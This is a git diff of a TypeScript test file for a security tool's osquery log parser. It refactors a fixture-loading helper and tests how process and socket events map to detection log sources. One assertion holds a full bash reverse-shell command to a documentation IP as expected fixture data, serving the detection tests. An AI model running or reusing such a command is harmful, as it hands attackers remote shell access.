@@ -1,28 +1,22 @@
 import assert from 'node:assert/strict';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
-import { collectEvents } from '../../src/pipeline/events.ts';
 import type { VigilEvent } from '../../src/schema/event.ts';
 import { line, read, selected } from '../detect/mapping/helpers.ts';
 import { assertNoPollution, assertSoundEvent, readAs } from '../helpers/hostile.ts';
 import { packAlertTitles } from '../helpers/pack-alerts.ts';
+import { fixtureEvents } from '../helpers/format.ts';
 import { tempDirs } from '../helpers/temp.ts';
 
 /** osquery's results log: processes, sockets and file changes of scheduled queries, in every result format. */
 
 const dirs = tempDirs('osquery');
 const INPUT = join(import.meta.dirname, '..', 'fixtures', 'formats', 'osquery', 'input.jsonl');
-const OPTIONS = { tz: 'UTC', year: 2024, now: () => new Date('2024-12-31T00:00:00Z') };
 
-async function fixtureEvents(): Promise<VigilEvent[]> {
-  const { events, errors, formats } = await collectEvents([INPUT], OPTIONS);
-  assert.deepEqual([errors, formats], [[], ['osquery']]);
-  return events;
-}
 
 void describe('osquery results', () => {
   void it('reads event, snapshot and batch results by their columns, at the time of the row', async () => {
-    const events = await fixtureEvents();
+    const events = await fixtureEvents('osquery', 'input.jsonl');
     assert.deepEqual(events.map((e) => [e.event.action, e.host?.name, e['@timestamp'], e.labels?.['osquery.name']]), [
       ['process-start', 'web01', '2024-11-23T10:00:00.000Z', 'pack_incident-response_process_events'],
       ['network-connection', 'web01', '2024-11-23T10:00:01.000Z', 'pack_incident-response_socket_events'],
@@ -40,7 +34,7 @@ void describe('osquery results', () => {
   });
 
   void it('feeds the process and connection logsources of the system its paths name', async () => {
-    const [bash, socket, , powershell] = await fixtureEvents();
+    const [bash, socket, , powershell] = await fixtureEvents('osquery', 'input.jsonl');
     assert.equal(selected(bash!, { product: 'linux', category: 'process_creation' }), true);
     assert.equal(read(bash!, { product: 'linux', category: 'process_creation' }, 'CommandLine'), 'bash -c bash -i >& /dev/tcp/203.0.113.80/4444 0>&1');
     assert.equal(selected(socket!, { product: 'linux', category: 'network_connection' }), true);
